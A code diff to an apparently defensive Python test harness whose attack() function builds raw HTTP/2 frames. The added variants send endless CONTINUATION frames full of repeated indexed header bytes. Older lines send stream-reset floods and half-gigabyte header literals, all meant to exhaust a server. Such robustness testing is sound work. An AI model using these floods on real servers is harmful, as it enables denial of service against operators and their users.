@@ -18,11 +18,16 @@ import time
 from collections.abc import Iterator
 
 _DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
-_UNKNOWN, _END_HEADERS = 77, 4
+_UNKNOWN, _END_STREAM, _END_HEADERS = 77, 1, 4
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 PAUSE_SECONDS = 0.05
+#: Within it, a call of a hostile connection has its answer.
+ANSWER_SECONDS = 0.5
 _BEGIN_SECONDS = 2.0
-KINDS = ("headers", "literal", "empty", "pings", "settings", "priorities", "windows", "unknown", "resets", "silence")
+KINDS = (
+    "headers", "indexed", "held", "answered", "literal", "empty", "pings", "settings", "priorities", "windows",
+    "unknown", "resets", "silence",
+)  # fmt: skip
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -57,6 +62,21 @@ def attack(kind: str) -> Iterator[bytes]:
             calls = range(stream, stream + 400, 2)
             yield b"".join(frame(_HEADERS, _END_HEADERS, n, _CALL) + frame(_RESET, 0, n, bytes(4)) for n in calls)
             stream += 400
+    if kind in ("indexed", "held", "answered"):
+        first = 1
+        if kind == "answered":
+            yield frame(_HEADERS, _END_HEADERS, 1, _CALL) + frame(_DATA, _END_STREAM, 1, bytes(5))
+            time.sleep(ANSWER_SECONDS)
+            first = 3
+        # A field, and then a byte for each time that it comes again, in a block without an end. The limits of the
+        # listener are not acknowledged.
+        yield frame(_HEADERS, 0, first, _CALL + b"\x40" + headers({"x-a": "b" * 10})[1:])
+        again = frame(_CONTINUATION, 0, first, b"\xbe" * 15000)
+        if kind == "held":
+            yield 2 * again
+            return
+        while True:
+            yield 4 * again
     if kind in ("headers", "literal", "empty"):
         # A literal field of half a gigabyte, or a header block that goes on and on.
         yield frame(_HEADERS, 0, 1, _CALL + (b"\x00\x03x-a\x7f\x81\xff\xff\xff\x01" if kind == "literal" else b""))
